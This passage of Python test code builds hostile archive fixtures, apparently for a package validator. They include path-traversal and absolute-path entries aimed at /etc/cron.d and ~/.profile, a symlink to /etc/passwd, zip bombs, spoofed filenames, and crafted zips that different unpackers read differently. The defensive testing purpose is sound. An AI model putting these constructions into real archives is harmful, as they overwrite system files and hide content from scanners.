        "nested zip": {"docs/more.zip": zipped({"a.py": run})},
        "nested zip as weights": {"models/model.pt": zipped({"a.py": run})},
        "nested tar": {"docs/more.data": b"\0" * 257 + b"ustar" + b"\0" * 250},
        "zip behind a picture": {"docs/a.png": b"\x89PNG" + zipped({"a.py": run})},
        "download changed by a key": {"large_files.yml": "large_files:\n- path: models/model.pt\nlarge_files::0::path: a b/../../.profile\n"},
        "download added": {"large_files.yml": "+large_files:\n- path: a b/../../.profile\n"},
        "download outside in a second file": {"large_files_2.yml": "large_files:\n- path: ../../.profile\n"},
        "download outside": {"large_files.yml": "large_files:\n- path: ../../.profile\n  url: https://h/x\n  hash_val: " + "0" * 32 + "\n"},
    }  # fmt: skip


def zips(touch: str) -> dict[str, bytes]:
    """Containers that are dangerous to unpack: name of the trick and the zip."""
    config = json.dumps(BENIGN)
    good = zipped({"b/configs/a.json": config, "b/docs/README.md": "x" * 50})
    with_comment = bytearray(good)
    local = bytearray(good)
    local[30:31] = b"c"  # the first entry's name in front of its data
    encrypted = bytearray(good)
    struct.pack_into("<H", encrypted, encrypted.index(b"PK\x01\x02") + 8, 1)
    overlapping = bytearray(good)
    second = overlapping.rindex(b"PK\x01\x02")
    struct.pack_into("<I", overlapping, second + 42, 0)
    size = bytearray(good)
    struct.pack_into("<I", size, size.rindex(b"PK\x01\x02") + 24, 7)
    return {
        "path above": zipped({"../../evil.py": touch}),
        "path above inside": zipped({"b/configs/../../../evil.py": touch}),
        "absolute": zipped({"/etc/cron.d/evil": touch}),
        "drive": zipped({"C:/evil.py": touch}),
        "backslash": zipped({"b\\..\\..\\evil.py": touch}),
        "empty part": zipped({"b//configs/a.json": config}),
        "control character": zipped({"b/a\x1b[2J.json": config}),
        "right to left": zipped({"b/a\u202enosj.py": touch}),
        "trailing dot": zipped({"b/configs./a.json": config}),
        "link": zipped({"b/configs/a.json": "/etc/passwd"}, mode=0o120777),
        "device": zipped({"b/configs/a.json": ""}, mode=0o020666),
        "bomb": zipped({"b/docs/a.txt": b"\0" * 50_000_000}),
        "too many": zipped({f"b/{number}": "" for number in range(10_001)}),
        "twice": _doubled("b/configs/a.json", "b/configs/a.json"),
        "twice by case": zipped({"b/configs/a.json": config, "b/configs/A.json": config}),
        "twice by accents": zipped({"b/\u00e9.json": config, "b/e\u0301.json": config}),
        "twice by width": zipped({"b/a.json": config, "b/\uff41.json": config}),
        "file and folder": zipped({"b/configs": config, "b/configs/a.json": config}),
        "encrypted": bytes(encrypted),
        "overlapping": bytes(overlapping),
        "wrong size": bytes(size),
        "other local name": bytes(local),
        "prepended": b"#!/bin/sh\n" + good,
        "appended in between": bytes(with_comment).replace(b"PK\x01\x02", b"hidden-PK\x01\x02", 1),
        "two tables of contents": _two_tables(),
        "hidden from programs that read on": _shorter(),
        "bzip2": _packed(zipfile.ZIP_BZIP2),
        "lzma": _packed(zipfile.ZIP_LZMA),
        "empty": zipped({}),
        "truncated": good[: len(good) // 2],
        "cut off by one": good[:-1],
        "rubbish": b"rubbish",
        "nothing": b"",
        "only the magic": b"PK\x03\x04",
        "only the end": b"PK\x05\x06" + b"\xff" * 18,
    }  # fmt: skip


def _twice(first: bytes, second: bytes) -> bytes:
    return _doubled("archive/data.pkl", "archive/data.pkl", first, second)


def _doubled(one: str, two: str, first: bytes = b"{}", second: bytes = b"{}") -> bytes:
    other = "?" * len(two)
    data = zipped({one: first, other: second})
    return data.replace(other.encode(), two.encode())


def _two_tables() -> bytes:
    """A zip with an end for zip64, which Python goes by, and one that has `unzip` find another file in a document."""
    hidden = zipped({"b/configs/x.json": "{}"})
    local = hidden[: hidden.index(b"PK\x01\x02")]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as target:
        target.writestr("b/docs/a.txt", local)
    data = buffer.getvalue()
    start, end = data.index(b"PK\x01\x02"), data.index(b"PK\x05\x06")
    entry = bytearray(hidden[hidden.index(b"PK\x01\x02") : hidden.index(b"PK\x05\x06")])
    struct.pack_into("<I", entry, 42, data.index(local))
    table = bytearray(data[start:end]) + entry  # as the comment on its one file
    struct.pack_into("<H", table, 32, len(entry))
    record = struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 1, 1, len(table), start)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, start + len(table), 1)
    other = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 1, 1, len(entry), start + len(table) - len(entry), 0)
    return data[:start] + table + record + locator + other


def _shorter() -> bytes:
    """A zip whose document is shorter by what stands in front of it, so that another entry seems to follow."""
    hidden = zipped({"b/configs/x.json": "{}"})
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as target:
        target.writestr("b/docs/a.txt", b"text" + hidden[: hidden.index(b"PK\x01\x02")])
    data = bytearray(buffer.getvalue())
    struct.pack_into("<I", data, 18, 4)
    return bytes(data)


def _packed(method: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as target:
        target.writestr("b/configs/a.json", "{}")
    return buffer.getvalue()


def _edited(data: bytes, old: str, new: str, more: Mapping[str, bytes] | None = None) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    content = {entry.filename: source.read(entry) for entry in source.infolist()}
    if old:
        content = {
            name: text.replace(old.encode(), new.encode()) if name.endswith(".py") else text
            for name, text in content.items()
        }
    return zipped({**content, **(more or {})})


def _renamed(data: bytes, old: str, new: str) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    return zipped({entry.filename.replace(old, new): source.read(entry) for entry in source.infolist()})


def _objects(one: object) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, np.array([one], dtype=object), allow_pickle=True)
    return buffer.getvalue()


def _onnx(location: str = "", operator: str = "Identity") -> bytes:
    import onnx
    from onnx import TensorProto, helper

    tensor = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[1], float_data=[1.0])
    if location:
        tensor = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[1], data_location=TensorProto.EXTERNAL)
        tensor.external_data.add(key="location", value=location)
    value = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])
    domain = "" if operator == "Identity" else "com.microsoft"
    graph = helper.make_graph([helper.make_node(operator, ["w"], ["y"], domain=domain)], "g", [], [value], [tensor])
    model: onnx.ModelProto = helper.make_model(graph)
    return model.SerializeToString()
